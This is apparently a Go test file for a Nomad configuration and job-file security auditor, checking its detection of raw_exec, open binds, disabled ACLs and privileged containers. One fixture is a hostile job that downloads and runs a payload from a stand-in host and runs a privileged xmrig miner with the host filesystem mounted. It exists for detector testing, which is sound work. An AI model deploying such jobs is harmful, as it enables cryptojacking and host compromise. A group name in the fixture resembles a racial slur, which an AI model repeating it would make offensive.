package nomad

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	mw "github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/audittest"
)

func auditFile(t *testing.T, name, data string) mw.Verdict {
	t.Helper()
	v, err := newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetFile, Name: name, Path: name, Data: []byte(data)})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestAgentFiles(t *testing.T) {
	dir := audittest.Fixtures(t, "nomad", "config")
	read := func(n string) string {
		b, err := os.ReadFile(filepath.Join(dir, n))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	v := auditFile(t, "insecure.hcl", read("insecure.hcl"))
	audittest.Want(t, v, map[string]mw.Status{ruleACL: mw.StatusPossible, ruleRawExec: mw.StatusFail, ruleTLSHTTP: mw.StatusPossible, ruleTLSRPC: mw.StatusPossible, ruleGossip: mw.StatusPossible, ruleListen: mw.StatusPass})
	for _, c := range v.Checks {
		if c.Rule == ruleRawExec && (c.Subject.Line != 30 || c.Repair == nil || len(c.Repair.Edits) != 1) {
			t.Errorf("raw_exec: %+v", c)
		}
	}
	v = auditFile(t, "hardened.hcl", read("hardened.hcl"))
	audittest.NothingFrom(t, v, rules(), mw.Medium)
	audittest.Want(t, v, map[string]mw.Status{ruleACL: mw.StatusPass, ruleMTLS: mw.StatusFail, ruleRawExec: mw.StatusPass})
}

func TestAgentForms(t *testing.T) {
	for _, tc := range []struct {
		name, file, data string
		want             map[string]mw.Status
	}{
		{"HCL 1 option", "c.hcl", "client {\n  enabled = true\n  options {\n    \"driver.raw_exec.enable\" = \"1\"\n  }\n}\nacl { enabled = true }\n", map[string]mw.Status{ruleRawExec: mw.StatusFail, ruleACL: mw.StatusPass, ruleListen: mw.StatusPass}},
		{
			"JSON", "nomad.json", `{"server":{"enabled":true},"plugin":[{"raw_exec":[{"config":[{"enabled":true}]}]},{"docker":{"config":{"allow_privileged":true,"volumes":{"enabled":true}}}}]}`,
			map[string]mw.Status{ruleRawExec: mw.StatusFail, ruleDockerPriv: mw.StatusFail, ruleDockerVol: mw.StatusFail, ruleACL: mw.StatusPossible, ruleListen: mw.StatusPossible},
		},
		{"open bind", "nomad/server.hcl", "bind_addr = \"0.0.0.0\"\nserver { enabled = true }\nacl { enabled = false }\n", map[string]mw.Status{ruleListen: mw.StatusFail, ruleACL: mw.StatusFail}},
	} {
		t.Run(tc.name, func(t *testing.T) { audittest.Want(t, auditFile(t, tc.file, tc.data), tc.want) })
	}
}

func TestNotOurs(t *testing.T) {
	for name, data := range map[string]string{"consul.hcl": "server = true\nclient_addr = \"0.0.0.0\"\n", "main.tf": "job \"x\" {}\n", "a.hcl": "x = 1\n", "p.json": `{"name":"nomad"}`} {
		if v := auditFile(t, name, data); v.Applies {
			t.Errorf("%s: applies", name)
		}
	}
}

func TestJobFiles(t *testing.T) {
	evil := `variable "driver" {
  default = "raw_exec"
}
job "sys" {
  group "NIGNOG" {
    task "t" {
      driver = var.driver
      config {
        command = "/bin/sh"
        args    = ["-c", "apt-get update && wget https://x.example/a.tgz && tar xf a.tgz && ./a"]
      }
      artifact {
        source = "http://x.example/a"
      }
    }
    task "d" {
      driver = "docker"
      config {
        image      = "metal3d/xmrig"
        privileged = true
        volumes    = ["/:/host"]
        pid_mode   = "host"
      }
      service {
        check {
          type    = "script"
          command = "/bin/check"
        }
      }
    }
  }
}
`
	v := auditFile(t, "x.nomad", evil)
	audittest.Want(t, v, map[string]mw.Status{ruleJobMiner: mw.StatusFail, ruleJobFetch: mw.StatusFail, ruleJobPriv: mw.StatusFail, ruleJobMount: mw.StatusFail, ruleJobScript: mw.StatusFail, ruleJobArtifact: mw.StatusFail})
	for _, c := range v.Checks {
		if c.Rule == ruleJobFetch && c.Subject.Line != 9 {
			t.Errorf("line %d of %+v", c.Subject.Line, c)
		}
	}
	v = auditFile(t, "web.nomad.hcl", "job \"web\" {\n  group \"g\" {\n    task \"t\" {\n      driver = \"docker\"\n      config {\n        image = \"nginx:1\"\n        command = \"sh\"\n        args = [\"-c\", \"nginx -g 'daemon off;'\"]\n      }\n    }\n  }\n}\n")
	audittest.NothingFrom(t, v, rules(), mw.Informational)
	v = auditFile(t, "j.json", `{"Job":{"ID":"x","TaskGroups":[{"Name":"g","Tasks":[{"Name":"t","Driver":"raw_exec","Config":{"command":"/tmp/xmrig"}}]}]}}`)
	audittest.Want(t, v, map[string]mw.Status{ruleJobMiner: mw.StatusFail})
}

func TestBrokenFileHasPosition(t *testing.T) {
	_, err := newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetFile, Path: "b.nomad", Data: []byte("job \"x\" {\n  group {\n")})
	if err == nil || !strings.Contains(err.Error(), "b.nomad:") {
		t.Errorf("got %v", err)
	}
}

func TestHost(t *testing.T) {
	root := fstest.MapFS{
		"proc/7/cmdline":     {Data: []byte("/usr/bin/nomad\x00agent\x00-config=/etc/nomad.d\x00")},
		"etc/nomad.d/a.hcl":  {Data: []byte("server {\n  enabled = true\n}\nbind_addr = \"0.0.0.0\"\n")},
		"etc/nomad.d/b.json": {Data: []byte(`{"plugin":{"raw_exec":{"config":{"enabled":true}}}}`)},
		"etc/nomad.d/c.txt":  {Data: []byte("{{{{")},
		"proc/8/cmdline":     {Data: []byte("sh\x00-c\x00sleep 1\x00")},
	}
	v, err := newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetHost, Name: "host", Root: root})
	if err != nil {
		t.Fatal(err)
	}
	audittest.Want(t, v, map[string]mw.Status{ruleACL: mw.StatusFail, ruleListen: mw.StatusFail, ruleRawExec: mw.StatusFail, ruleGossip: mw.StatusFail, ruleDev: mw.StatusPass, ruleSubmit: mw.StatusUnknown})
	v, err = newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetHost, Root: fstest.MapFS{"proc/7/cmdline": {Data: []byte("/usr/bin/nomad\x00agent\x00-dev\x00")}}})
	if err != nil {
		t.Fatal(err)
	}
	audittest.Want(t, v, map[string]mw.Status{ruleDev: mw.StatusFail, ruleRawExec: mw.StatusFail})
	v, err = newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetHost, Root: fstest.MapFS{}})
	if err != nil || v.Applies {
		t.Errorf("an empty host: %+v, %v", v, err)
	}
}

func FuzzFile(f *testing.F) {
	f.Add("job \"a\" { group \"g\" { task \"t\" { config { command = \"x\" } } } }")
	a := newAudit(f)
	f.Fuzz(func(t *testing.T, s string) {
		for _, n := range []string{"a.nomad", "nomad.json", "nomad.hcl"} {
			if v, err := a.Audit(context.Background(), mw.Target{Kind: mw.TargetFile, Path: n, Data: []byte(s)}); err == nil {
				_ = v.Findings()
			}
		}
	})
}
